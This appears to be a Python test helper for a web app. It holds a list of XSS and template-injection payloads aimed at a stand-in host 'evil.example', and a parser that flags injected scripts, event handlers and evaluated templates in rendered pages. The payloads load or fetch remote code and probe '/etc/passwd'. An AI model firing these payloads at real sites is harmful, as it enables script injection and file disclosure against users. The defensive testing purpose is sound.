"""What a page would run or load that is not ours: found by reading it as a browser does."""

from html.parser import HTMLParser

PLANTED = "evil.example"
HOSTILE = (
    f"x'\"><script src=//{PLANTED}/a></script>",
    f'"><img src=x onerror="location=\'//{PLANTED}\'">',
    f"</textarea></title></style><svg/onload=import('//{PLANTED}')>",
    f"javascript:fetch('//{PLANTED}')",
    f"{{{{99991*99989}}}}{{%25 include '/etc/passwd' %25}}{{0.__class__}}${{99991*99989}} {PLANTED}",
    f"' autofocus onfocus=x('{PLANTED}') x='",
    f"-->]]><iframe srcdoc=\"<script>x('{PLANTED}')</script>\">",
)
"""Each breaks out of another place of a page."""
_EVALUATED = "9998000099"
"""What a template makes of one: too long to come about by chance, in a token."""
_LEADS = frozenset(
    {"href", "src", "action", "formaction", "srcdoc", "data", "poster", "hx-get", "hx-post", "list"}
)


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note what must not be there."""
        has = dict(attrs)
        if tag == "script" and not (has.get("src") or "").startswith("/static/"):
            self.found.append(f"<script {attrs}>")
        for name, value in attrs:
            said = (value or "").strip().lower()
            if name.startswith(("on", "hx-on")) or name in {"style", "srcdoc"}:
                self.found.append(f"<{tag} {name}={value!r}>")
            if name in _LEADS and (
                said.startswith(("javascript:", "data:", "//", "http")) or PLANTED in said
            ):
                self.found.append(f"<{tag} {name}={value!r}>")
        if tag in {"object", "embed", "base", "style"}:
            self.found.append(f"<{tag}>")


def planted(html: str) -> list[str]:
    """Return what of a page was put there by a stranger, or could be run."""
    reader = _Reader()
    reader.feed(html)
    reader.close()
    return reader.found + (["a template was evaluated"] if _EVALUATED in html else [])
